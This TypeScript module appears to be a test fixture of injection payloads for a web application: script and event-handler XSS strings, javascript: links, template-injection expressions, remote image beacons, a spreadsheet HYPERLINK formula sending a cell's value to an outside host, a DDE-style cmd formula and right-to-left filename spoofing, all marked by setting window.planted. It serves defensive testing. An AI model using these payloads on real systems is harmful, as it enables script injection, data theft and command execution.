/**
 * Texts that do something as soon as a page takes them for more than words: each sets `window.planted` to its own
 * name, asks for an address that holds "planted", or turns what stands beside it around.
 */
export interface Planted {
  name: string;
  text: string;
  /** By which carelessness it runs; those without one are only looked at. */
  runs?: "written" | "clicked" | "linked" | "compiled";
}

const DIRECTION = "\u202E";

export const CORPUS: readonly Planted[] = [
  { name: "script", runs: "written", text: "<script>window.planted='script'</script>" },
  { name: "img", runs: "written", text: `<img src="/planted.png" onerror="window.planted='img'">` },
  { name: "svg", runs: "written", text: `<svg onload="window.planted='svg'"></svg>` },
  { name: "frame", runs: "written", text: `<iframe srcdoc="<script>parent.planted='frame'</script>"></iframe>` },
  { name: "details", runs: "written", text: `<details open ontoggle="window.planted='details'">点开</details>` },
  { name: "quote", runs: "written", text: `"><img src="/planted.png" onerror="window.planted='quote'">` },
  { name: "area", runs: "written", text: `</textarea></title><img src="/planted.png" onerror="window.planted='area'">` },
  { name: "focus", runs: "written", text: `<input autofocus onfocus="window.planted='focus'">` },
  { name: "anchor", runs: "clicked", text: `<a href="javascript:void(window.planted='anchor')">点我</a>` },
  { name: "address", runs: "linked", text: "javascript:void(window.planted='address')" },
  { name: "markdown", runs: "linked", text: "[点我](javascript:void(window.planted='markdown'))" },
  { name: "braces", runs: "compiled", text: `{{constructor.constructor("window.planted='braces'")()}}` },
  { name: "dollar", runs: "compiled", text: `\${constructor.constructor("window.planted='dollar'")()}` },
  { name: "picture", text: "![图](http://planted.example.org/1.png)<img src='http://planted.example.org/2.png'>" },
  { name: "formula", text: `=HYPERLINK("http://planted.example.org/?"&A1,"点我")` },
  { name: "command", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "direction", text: `请看${DIRECTION}gnp.单清${DIRECTION}附件` },
  { name: "long", text: "长".repeat(300) + "W".repeat(300) },
];

/** What readers are to see: signs that turn the reading direction are taken out on the way in. */
export const seen = (text: string) => text.replaceAll(DIRECTION, "");

/** All of them as one text of several lines. */
export const WORDS = CORPUS.map(({ text }) => text).join("\n");

/** For fields of forty characters and one line. */
export const NAME = "<img src=/planted onerror=planted=1>";
